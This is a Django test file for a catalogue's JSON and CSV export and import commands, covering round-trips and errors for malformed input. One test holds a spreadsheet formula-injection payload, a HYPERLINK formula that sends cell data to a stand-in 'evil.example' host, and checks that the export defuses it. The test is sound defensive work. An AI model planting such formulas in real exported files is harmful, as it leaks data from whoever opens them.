import csv
import datetime
import io
import tempfile
from io import StringIO
from pathlib import Path

from django.core.management import CommandError, call_command

from shelf.catalogue.models import Resource, Term
from shelf.catalogue.taxonomy import sync_terms
from shelf.ingest import demo
from shelf.test import BaseTestCase

SAMPLE = Path(__file__).resolve().parents[1] / "data" / "listing-sample.txt"


def export(*args) -> str:
    out = StringIO()
    call_command("export", *args, stdout=out, stderr=StringIO())
    return out.getvalue()


def empty_catalogue() -> None:
    Resource.objects.all().delete()
    Term.objects.all().delete()
    sync_terms()


class RoundTripTestCase(BaseTestCase):
    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        call_command("import", str(SAMPLE), stdout=StringIO())
        demo.generate(40, seed=7)
        Resource.objects.filter(key="listing:safer-virtual-school").update(
            date=datetime.date(2020, 1, 1),
            date_precision="year",
            visibility="members",
            status="draft",
            source_url="https://example.org/a?b=1",
            last_reviewed=datetime.date(2024, 5, 6),
            body='Line one, "quoted";\nline two.',
        )
        chinese = Resource.objects.get(key="listing:resources-in-simplified-chinese_zh-cn")
        chinese.translations.add(Resource.objects.get(key="listing:safer-virtual-school"))
        Resource.objects.filter(key="demo:1").update(supersedes=Resource.objects.get(key="demo:2"))

    def setUp(self):
        self.tmp = tempfile.TemporaryDirectory()
        self.addCleanup(self.tmp.cleanup)

    def round_trip(self, name: str) -> None:
        first = export("--format", name)
        path = Path(self.tmp.name) / f"catalogue.{name}"
        path.write_text(first, encoding="utf-8")
        empty_catalogue()
        call_command("import", str(path), stdout=StringIO())
        self.assertEqual(Resource.objects.count(), 47)
        self.assertEqual(export("--format", name), first)
        chinese = Resource.objects.get(key="listing:resources-in-simplified-chinese_zh-cn")
        self.assertEqual([r.slug for r in chinese.translations.all()], ["safer-virtual-school"])
        self.assertEqual(Resource.objects.get(key="demo:1").supersedes.key, "demo:2")
        out = StringIO()
        call_command("import", str(path), stdout=out)
        self.assertIn("0 created, 0 updated, 47 unchanged", out.getvalue())

    def test_it_exports_json_that_imports_to_the_same_bytes(self):
        self.round_trip("json")

    def test_it_exports_csv_that_imports_to_the_same_bytes(self):
        self.round_trip("csv")

    def test_it_sorts_by_key_without_ids_or_timestamps(self):
        text = export("--format", "json")
        keys = [line.split('"')[3] for line in text.splitlines()[1:-1]]
        self.assertEqual(keys, sorted(keys))
        self.assertNotIn('"id"', text)
        self.assertNotIn('"updated"', text)

    def test_it_writes_dates_as_precisely_as_they_are_known(self):
        text = export("--format", "csv")
        self.assertIn(",2020,en,https://example.org/a?b=1,draft,members,2024-05-06,", text)

    def test_it_neutralises_formulas_and_reimports_them_unchanged(self):
        hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
        Resource.objects.filter(key="demo:3").update(
            title=hostile, summary="+1 and more", body="@SUM(A1)\rline\r\nnext"
        )
        Resource.objects.filter(key="demo:4").update(title="-5 reasons", summary="'=quoted")
        text = export("--format", "csv")
        rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
        cells = [c for row in rows for c in row]
        self.assertFalse([c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")])
        self.assertIn("'" + hostile, cells)
        path = Path(self.tmp.name) / "catalogue.csv"
        path.write_text(text, encoding="utf-8", newline="")
        empty_catalogue()
        call_command("import", str(path), stdout=StringIO())
        three = Resource.objects.get(key="demo:3")
        self.assertEqual(
            (three.title, three.summary, three.body),
            (hostile, "+1 and more", "@SUM(A1)\rline\nnext"),
        )
        four = Resource.objects.get(key="demo:4")
        self.assertEqual((four.title, four.summary), ("-5 reasons", "'=quoted"))
        self.assertEqual(export("--format", "csv"), text.replace("\r\n", "\n"))

    def test_it_exports_to_a_file(self):
        path = Path(self.tmp.name) / "out.csv"
        call_command("export", "-o", str(path), stdout=StringIO(), stderr=StringIO())
        self.assertEqual(path.read_text(encoding="utf-8"), export("--format", "csv"))


class MalformedTestCase(BaseTestCase):
    def setUp(self):
        self.tmp = tempfile.TemporaryDirectory()
        self.addCleanup(self.tmp.cleanup)

    def refused(self, name: str, text: str) -> str:
        path = Path(self.tmp.name) / name
        path.write_text(text, encoding="utf-8")
        with self.assertRaises(CommandError) as cm:
            call_command("import", str(path), stdout=StringIO())
        self.assertEqual(Resource.objects.count(), 0)
        return str(cm.exception).removeprefix(str(path))

    def test_it_reports_csv_rows_by_line(self):
        text = "key,title,date,audiences\na,One,2020,Parents\nb,Two,2020-13,Parents\nc,Three\n"
        message = self.refused("x.csv", text)
        self.assertTrue(message.startswith(":3:3: date '2020-13'"), message)
        self.assertIn(":4: 2 fields, but the header has 4 columns", message)

    def test_it_counts_lines_inside_quoted_fields(self):
        text = 'key,title,status\na,"One\nwith a newline",published\nb,Two,lost\n'
        self.assertTrue(self.refused("x.csv", text).startswith(":4:3: status 'lost'"))

    def test_it_refuses_unknown_csv_columns(self):
        message = self.refused("x.csv", "key,title,audience\na,One,Parents\n")
        self.assertIn(":1:3: unknown columns 'audience'", message)

    def test_it_refuses_a_listing_given_as_csv(self):
        message = self.refused("x.csv", SAMPLE.read_text(encoding="utf-8"))
        self.assertIn("is this a listing?", message)

    def test_it_refuses_broken_json_with_its_line(self):
        message = self.refused(
            "x.json", '{"resources": [\n{"key": "a", "title": "One"},\n{"key": }\n]}'
        )
        self.assertTrue(message.startswith(":3:9: not valid JSON: Expecting value"), message)

    def test_it_reports_json_records_by_line_column_and_number(self):
        text = (
            '[{"key": "a", "title": "One"}, {"title": "B"},\n'
            '{"key": "c", "title": "T", "terms": {"mood": ["x"]}}]'
        )
        message = self.refused("x.json", text)
        self.assertTrue(message.startswith(":1:32: record 2: the key is missing"), message)
        self.assertIn(":2:1: record 3: unknown vocabulary 'mood'", message)

    def test_it_needs_a_title_for_a_new_json_item(self):
        message = self.refused("x.json", '[{"key": "a", "title": "One"}, {"key": "b"}]')
        self.assertIn(": record 2: 'b' is not in the catalogue; a new item needs a title", message)

    def test_it_refuses_links_to_unknown_keys(self):
        text = (
            '[{"key": "a", "title": "One", "translations": ["b"]},\n'
            '{"key": "b", "title": "Two", "supersedes": "z"}]'
        )
        message = self.refused("x.json", text)
        self.assertTrue(message.startswith(": record 2: 'z' is neither in this file nor"), message)

    def test_it_imports_hand_written_csv(self):
        path = Path(self.tmp.name) / "x.csv"
        path.write_text(
            "title,date,language,audiences,publishers\n"
            "One,2021-03,zh-cn,Parents; educators,UNICEF\n"
        )
        call_command("import", str(path), stdout=StringIO())
        one = Resource.objects.get(key="csv:one")
        self.assertEqual((one.date, one.date_precision), (datetime.date(2021, 3, 1), "month"))
        self.assertEqual(one.language, "zh-Hans")
        self.assertEqual(
            sorted(one.terms.values_list("vocabulary", "slug")),
            [
                ("audience", "parents"),
                ("audience", "teachers"),
                ("language", "zh-hans"),
                ("publisher", "unicef"),
            ],
        )
